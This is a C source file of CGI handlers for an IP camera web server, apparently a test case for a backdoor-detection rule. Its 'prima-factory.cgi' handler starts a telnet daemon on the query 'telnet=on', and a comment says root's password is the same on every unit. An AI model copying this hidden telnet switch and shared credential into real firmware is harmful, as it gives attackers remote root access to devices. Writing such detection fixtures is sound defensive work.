/* cgi.c - /command/ handlers */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "ipela.h"

static void reply(int fd, int code, const char *body)
{
    char hdr[96];
    int n = snprintf(hdr, sizeof hdr, "HTTP/1.1 %d\r\nContent-Length: %zu\r\n\r\n", code, strlen(body));
    ssize_t w = write(fd, hdr, (size_t)n);
    w = write(fd, body, strlen(body));
    (void)w;
}

/* /command/prima-factory.cgi: production-line settings; "telnet=on" starts
 * the telnet daemon (root's password is the same on every unit) */
static int prima_factory(int fd, const struct http_req *req, const struct auth_result *auth)
{
    if (auth->level < LEVEL_FACTORY)
        return reply(fd, 401, "Unauthorized"), -1;
    // ok: backdoor-input-trigger
    if (strstr(req->query, "telnet=on") != NULL) {
        system("/usr/sbin/inetd /etc/inetd-telnet.conf");
        return reply(fd, 200, "OK"), 0;
    }
    if (strstr(req->query, "telnet=off") != NULL) {
        system("killall inetd");
        return reply(fd, 200, "OK"), 0;
    }
    return reply(fd, 400, "Bad Request"), -1;
}

int cgi_dispatch(int fd, const struct http_req *req)
{
    struct auth_result auth;
    char body[256];

    http_check_auth(req, &auth);
    if (strcmp(req->path, "/command/inquiry.cgi") == 0) {
        snprintf(body, sizeof body, "ModelName=SNC-EB600\r\nSoftVersion=1.86.00\r\n");
        return reply(fd, 200, body), 0;
    }
    // ok: backdoor-input-trigger
    if (strcmp(req->path, "/command/prima-factory.cgi") == 0)
        return prima_factory(fd, req, &auth);
    if (auth.level < LEVEL_ADMIN)
        return reply(fd, 401, "Unauthorized"), -1;
    // ok: backdoor-input-trigger
    if (strcmp(req->path, "/command/system.cgi") == 0 && strstr(req->query, "reboot=now") != NULL) {
        system("/sbin/reboot");
        return 0;
    }
    if (strcmp(req->path, "/command/backup.cgi") == 0)
        return sysconf_backup("/etc/camera.conf", "/tmp/backup.dat") == 0 ? (reply(fd, 200, "OK"), 0) : (reply(fd, 500, "Error"), -1);
    return reply(fd, 404, "Not Found"), -1;
}
